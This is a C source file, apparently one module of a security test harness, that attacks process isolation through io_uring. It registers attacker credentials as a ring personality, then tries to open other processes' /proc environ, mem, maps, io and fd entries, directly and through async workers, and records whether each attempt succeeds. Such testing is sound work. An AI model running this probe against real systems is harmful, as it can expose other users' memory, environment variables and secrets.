/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * io_uring(7) lets a task act with credentials that another has registered: a service of root may hold
 * those of its users, and ask for each with theirs.
 */

#include "attacks.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "fd.h"

struct ring {
	int fd;
	struct io_uring_params params;
	char *rings;
	struct io_uring_sqe *sqes;
};

static int ring_open(struct ring *ring)
{
	struct io_uring_params *p = &ring->params;
	size_t size;

	ring->fd = (int)syscall(SYS_io_uring_setup, 1, p);
	if (ring->fd < 0 || !(p->features & IORING_FEAT_SINGLE_MMAP))
		return -ENOSYS;
	size = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe) + p->sq_off.array +
	       p->sq_entries * sizeof(unsigned);
	ring->rings =
		mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	ring->sqes = mmap(NULL, p->sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
			  MAP_SHARED, ring->fd, IORING_OFF_SQES);
	return ring->rings == MAP_FAILED || ring->sqes == MAP_FAILED ? -ENOMEM : 0;
}

static unsigned *at(const struct ring *ring, unsigned offset)
{
	return (unsigned *)(void *)(ring->rings + offset);
}

/* One operation, and its result. */
static int ring_do(const struct ring *ring, const struct io_uring_sqe *sqe)
{
	const struct io_uring_params *p = &ring->params;
	unsigned tail = *at(ring, p->sq_off.tail), head = *at(ring, p->cq_off.head);
	const struct io_uring_cqe *cqes = (const void *)(ring->rings + p->cq_off.cqes);
	unsigned slot = tail & *at(ring, p->sq_off.ring_mask);
	int r;

	ring->sqes[slot] = *sqe;
	at(ring, p->sq_off.array)[slot] = slot;
	__atomic_store_n(at(ring, p->sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	while (__atomic_load_n(at(ring, p->cq_off.tail), __ATOMIC_ACQUIRE) == head)
		;
	r = cqes[head & *at(ring, p->cq_off.ring_mask)].res;
	__atomic_store_n(at(ring, p->cq_off.head), head + 1, __ATOMIC_RELEASE);
	return r;
}

struct registration {
	const struct attempt *attempt;
	int ring;
	int id;
};

/* In a thread with the attacker's credentials, which ends; they stay with the ring. */
static void *register_ours(void *arg)
{
	struct registration *r = arg;

	r->id = attacker_become(r->attempt);
	if (r->id == 0)
		r->id = (int)syscall(SYS_io_uring_register, r->ring, IORING_REGISTER_PERSONALITY,
				     NULL, 0);
	return NULL;
}

/* async: by a kernel thread of the process, not in the system call. */
static bool open_as(const struct attempt *a, const struct ring *ring, const char *path,
		    int personality, bool async)
{
	struct io_uring_sqe sqe = {
		.opcode = IORING_OP_OPENAT,
		.flags = async ? IOSQE_ASYNC : 0,
		.fd = a->root,
		.addr = (uintptr_t)path,
		.open_flags = O_RDONLY,
		.personality = (uint16_t)personality,
	};
	int fd = ring_do(ring, &sqe);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static int use_ring(const struct attempt *a, void *arg)
{
	static const char *const victims[] = { "root", "other", "nodump" };
	static const char *const files[] = { "environ", "maps", "mem", "io", "fd" };
	struct registration reg = { a, .id = 0 };
	struct ring ring = { 0 };
	pthread_t thread;

	(void)arg;
	if (ring_open(&ring) < 0) {
		printf("skipped: uring: no io_uring here\n");
		return ATTACK_SKIPPED;
	}
	reg.ring = ring.fd;
	if (pthread_create(&thread, NULL, register_ours, &reg) || pthread_join(thread, NULL))
		return -EAGAIN;
	if (reg.id <= 0)
		return -EPROTO;
	for (size_t i = 0; i < 3 * 5 * 2; i++) {
		const char *who = victims[i / 10], *file = files[i / 2 % 5];
		char path[48];

		snprintf(path, sizeof(path), "%d/%s", target_named(a, who)->pid, file);
		note(a, open_as(a, &ring, path, reg.id, i % 2), "%s: %s%s", who, file,
		     i % 2 ? " by a worker" : "");
	}
	return 0;
}

int attack_uring(const struct attempt *a)
{
	return in_child(a, false, use_ring, NULL);
}
